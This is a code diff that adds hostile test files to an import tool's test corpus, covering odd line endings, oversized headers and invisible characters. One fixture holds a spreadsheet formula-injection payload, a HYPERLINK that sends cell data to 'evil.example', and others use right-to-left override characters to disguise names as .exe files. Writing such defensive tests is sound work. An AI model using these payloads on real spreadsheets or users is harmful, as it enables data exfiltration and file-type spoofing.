@@ -21,6 +21,10 @@ export interface HostileFile {
   warnings?: string[];
   /** Fragments of the reader's notes. */
   notes?: string[];
+  /** Text that the rejected-rows download must keep (cells beyond the header, say). */
+  kept?: string[];
+  /** The file name as the app shows it, when it differs from `name`. */
+  shownName?: string;
 }
 
 const utf8 = (s: string) => new TextEncoder().encode(s);
@@ -43,6 +47,7 @@ export function gcjEdgePoint(counties: CountyCollection): [number, number] {
 export function hostileCorpus(counties: CountyCollection): HostileFile[] {
   const [gx, gy] = gcjEdgePoint(counties);
   const manyRows = `${HEADER}\n${'项目,1,平顺县,,,\n'.repeat(100_001)}`;
+  const longHeader = (label: string) => `${label}${'很长的表头'.repeat(20_000)}`;
   return [
     {
       name: 'xss-names.csv',
@@ -215,6 +220,97 @@ export function hostileCorpus(counties: CountyCollection): HostileFile[] {
         [2, '只能导入点'],
         [4, '经纬度可能填反了'],
       ],
+    },
+      {
+      name: 'mixed-endings.csv',
+      what: 'CRLF, LF and CR line endings in one file (sheets pasted together)',
+      bytes: utf8(`${HEADER}\r\n换行甲,1,平顺县,,,\n换行乙,2,沁县,,,\r换行丙,3,壶关县,,,\r\n`),
+      accepted: 3,
+      rejected: [],
+      notes: ['换行符'],
+    },
+    {
+      name: 'long-headers.csv',
+      what: 'header cells of 100,000 characters (a 19.6 MB file of them froze the tab)',
+      bytes: utf8(`${longHeader('项目名称')},${longHeader('县区')},${longHeader('备注')}\n长表头项目,平顺县,x\n`),
+      accepted: 1,
+      rejected: [],
+      notes: ['表头超过 100 字，已截断'],
+    },
+    {
+      name: 'multiline-formula.csv',
+      what: 'formulas behind a line break, in a cell and in the header',
+      bytes: utf8(
+        `"=1+1\n项目名称",总投资（亿元）,县区\n` +
+          `"=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")\n",abc,平顺县\n` +
+          `"@SUM(A1)\n",1,平顺县\n`,
+      ),
+      accepted: 1,
+      rejected: [[2, '不是数字：“abc”']],
+    },
+    {
+      name: 'empty-tail.csv',
+      what: '5 rows, then 120,000 lines of ,,,,, (what Excel writes for formatted empty rows)',
+      bytes: utf8(`${HEADER}\n${'空行前的项目,1,平顺县,,,\n'.repeat(5)}${',,,,,\n'.repeat(120_000)}`),
+      accepted: 5,
+      rejected: [],
+    },
+    {
+      name: 'too-many-lines.csv',
+      what: '1,000,001 empty lines after the header',
+      bytes: utf8(`${HEADER}\n项目,1,平顺县,,,\n${',\n'.repeat(1_000_001)}`),
+      error: '超过 1,000,000 行（含空行）',
+    },
+    {
+      name: 'extra-cells.csv',
+      what: 'rows with more cells than the header',
+      bytes: utf8(`${HEADER}\n多列,1,平顺县,,,,多出的甲,多出的乙\n正常,1,平顺县,,,\n`),
+      accepted: 1,
+      rejected: [[2, '比表头多出 2 个单元格']],
+      kept: ['多出的甲', '多出的乙'],
+    },
+    {
+      name: 'invisible-names.csv',
+      what: 'names made only of invisible characters; a name with a direction override',
+      bytes: utf8(
+        `${HEADER}\n` +
+          ['\u200b', '\u2060\u2060', '\u061c', '\u3164', '\u00ad', '\u200b \u3000\ufeff'].map((n) => `${n},1,平顺县,,,\n`).join('') +
+          `报告\u202Efdp.exe,1,平顺县,,,\n`,
+      ),
+      accepted: 1,
+      rejected: [2, 3, 4, 5, 6, 7].map((row) => [row, '缺少项目名称（只有不可见字符）'] as [number, string]),
+      warnings: ['不可见字符或控制字符已删除'],
+    },
+    {
+      name: '名单\u202Evsc.exe.csv',
+      what: 'a file name with a right-to-left override',
+      bytes: utf8(`${HEADER}\n文件名测试,1,平顺县,,,\n`),
+      accepted: 1,
+      rejected: [],
+      shownName: '名单vsc.exe.csv',
+    },
+    {
+      name: 'geojson-named.csv',
+      what: 'a GeoJSON file saved with a .csv name',
+      bytes: utf8(
+        `\n  ${JSON.stringify({ type: 'FeatureCollection', features: [{ type: 'Feature', properties: { 项目名称: '伪装的要素', 县区: '沁县' }, geometry: null }] })}`,
+      ),
+      accepted: 1,
+      rejected: [],
+      notes: ['内容是 GeoJSON'],
+    },
+    {
+      name: 'long-keys.geojson',
+      what: 'GeoJSON property keys of 100,000 characters',
+      bytes: utf8(
+        JSON.stringify({
+          type: 'FeatureCollection',
+          features: [{ type: 'Feature', properties: { [longHeader('项目名称')]: '长键要素', [longHeader('项目名称x')]: '第二列', 县区: '沁县' }, geometry: null }],
+        }),
+      ),
+      accepted: 1,
+      rejected: [],
+      notes: ['表头超过 100 字，已截断'],
     },
   ];
 }
